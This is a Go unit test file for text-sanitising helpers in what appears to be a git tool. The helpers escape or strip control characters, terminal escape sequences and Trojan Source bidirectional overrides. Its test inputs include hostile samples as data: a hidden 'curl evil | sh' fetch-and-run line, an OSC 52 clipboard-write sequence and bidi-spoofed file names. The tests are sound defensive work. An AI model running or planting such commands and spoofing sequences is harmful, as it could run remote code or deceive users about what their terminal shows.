package text

import (
	"fmt"
	"testing"
)

func TestPlural(t *testing.T) {
	for n, want := range map[int]string{0: "0 stashes", 1: "1 stash", 2: "2 stashes", 11: "11 stashes"} {
		if got := Plural(n, "stash", "stashes"); got != want {
			t.Errorf("Plural(%d) = %q, want %q", n, got, want)
		}
	}
}

// TestQuotePath checks git's quote_c_style rules; cmd/git-hegel's
// TestQuotePathMatchesGit compares with real git output.
func TestQuotePath(t *testing.T) {
	for _, tc := range []struct {
		in         string
		full, bare string
	}{
		{"plain.txt", "plain.txt", "plain.txt"},
		{"dir/with space", "dir/with space", "dir/with space"},
		{"tab\there", `"tab\there"`, `"tab\there"`},
		{"nl\nx", `"nl\nx"`, `"nl\nx"`},
		{"\a\b\v\f\r", `"\a\b\v\f\r"`, `"\a\b\v\f\r"`},
		{`q"uote`, `"q\"uote"`, `"q\"uote"`},
		{`back\slash`, `"back\\slash"`, `"back\\slash"`},
		{"ctl\x01\x1b", `"ctl\001\033"`, `"ctl\001\033"`},
		{"del\x7f", `"del\177"`, `"del\177"`},
		{"ümlaut", `"\303\274mlaut"`, "ümlaut"},
		{"ü\n", `"\303\274\n"`, "\"ü\\n\""},
		{"", "", ""},
	} {
		if got := QuotePath(tc.in, true); got != tc.full {
			t.Errorf("QuotePath(%q, true) = %s, want %s", tc.in, got, tc.full)
		}
		if got := QuotePath(tc.in, false); got != tc.bare {
			t.Errorf("QuotePath(%q, false) = %s, want %s", tc.in, got, tc.bare)
		}
	}
}

func TestPrintable(t *testing.T) {
	for _, c := range []struct {
		in   string
		max  int
		want string
	}{
		{"ann@example.com", 64, "ann@example.com"},
		{"ann\x1b[31m@ex\nample.com", 64, "ann[31m@example.com"},
		{"ééééé", 5, "éé…"},
	} {
		if got := Printable(c.in, c.max); got != c.want {
			t.Errorf("Printable(%q, %d) = %q, want %q", c.in, c.max, got, c.want)
		}
	}
}

func TestClean(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"plain text", "plain text"},
		{"two\nlines\tand a tab", "two\nlines\tand a tab"},
		{"a\x1b]0;title\x07b\x1b[2Jc", "a]0;titleb[2Jc"},
		{"over\rwrite\bx", "overwritex"},
		{"c1 \u009b31m csi", "c1 31m csi"},
		{"bad \xff byte", "bad  byte"},
	} {
		if got := Clean(c.in); got != c.want {
			t.Errorf("Clean(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestVisible(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"plain\ttext\n", "plain\ttext\n"},
		{"curl evil | sh\r# nothing new", `curl evil | sh\r# nothing new`},
		{"crlf\r\nlines\r", "crlf\r\nlines" + `\r`},
		{"a\x1b[8mb", `a\x1b[8mb`},
		{"c1 \u009b", `c1 \u009b`},
		{"bad \xff", `bad \xff`},
	} {
		if got := Visible(c.in); got != c.want {
			t.Errorf("Visible(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestOneLine(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"GET /x", "GET /x"},
		{"a\nforged line\tb", `a\nforged line\tb`},
		{"crlf\r\n", `crlf\r\n`},
		{"\x1b]52;c;aGk=\x07", `\x1b]52;c;aGk=\a`},
		{"c1 \u009b bad \xff", `c1 \u009b bad \xff`},
	} {
		if got := OneLine(c.in); got != c.want {
			t.Errorf("OneLine(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// bidiControls are the characters that reorder what a terminal shows
// (embeddings, overrides, isolates, and the marks): "Trojan Source".
var bidiControls = []rune{0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069}

// TestBidiControls checks every function that shows text from elsewhere
// on a terminal: none lets a bidirectional control through, so text
// reads in the order it is stored. Clean and Printable leave them out,
// as they leave out every control character; Visible and OneLine write
// them out as Go escapes, as they write out the C1 controls; QuotePath
// quotes a path holding one even with core.quotePath false.
func TestBidiControls(t *testing.T) {
	for _, r := range bidiControls {
		in := "admin" + string(r) + "txt.exe"
		esc := `admin\u` + fmt.Sprintf("%04x", r) + `txt.exe`
		if got := Clean(in); got != "admintxt.exe" {
			t.Errorf("Clean(%q) = %q, want %q", in, got, "admintxt.exe")
		}
		if got := Printable(in, 64); got != "admintxt.exe" {
			t.Errorf("Printable(%q) = %q, want %q", in, got, "admintxt.exe")
		}
		if got := Visible(in); got != esc {
			t.Errorf("Visible(%q) = %q, want %q", in, got, esc)
		}
		if got := OneLine(in); got != esc {
			t.Errorf("OneLine(%q) = %q, want %q", in, got, esc)
		}
		b := []byte(string(r))
		oct := ""
		for _, c := range b {
			oct += fmt.Sprintf(`\%03o`, c)
		}
		for _, full := range []bool{true, false} {
			want := `"admin` + oct + `txt.exe"`
			if got := QuotePath(in, full); got != want {
				t.Errorf("QuotePath(%q, %v) = %s, want %s", in, full, got, want)
			}
		}
	}
	// Right-to-left text itself, and the joiners other scripts and emoji
	// need, are not controls: they pass as they are.
	for _, s := range []string{"שלום עולם", "مرحبا", "क्‍ष", "👩‍💻", "日本語"} {
		if Clean(s) != s || Visible(s) != s || OneLine(s) != s || Printable(s, 64) != s || QuotePath(s, false) != s {
			t.Errorf("%q changed: Clean %q, Visible %q, OneLine %q, Printable %q, QuotePath %s",
				s, Clean(s), Visible(s), OneLine(s), Printable(s, 64), QuotePath(s, false))
		}
	}
	// Next to a line end, in a review: the line stays a line.
	if got, want := Visible("a\u202e\r\nb"), "a\\u202e\r\nb"; got != want {
		t.Errorf("Visible = %q, want %q", got, want)
	}
}
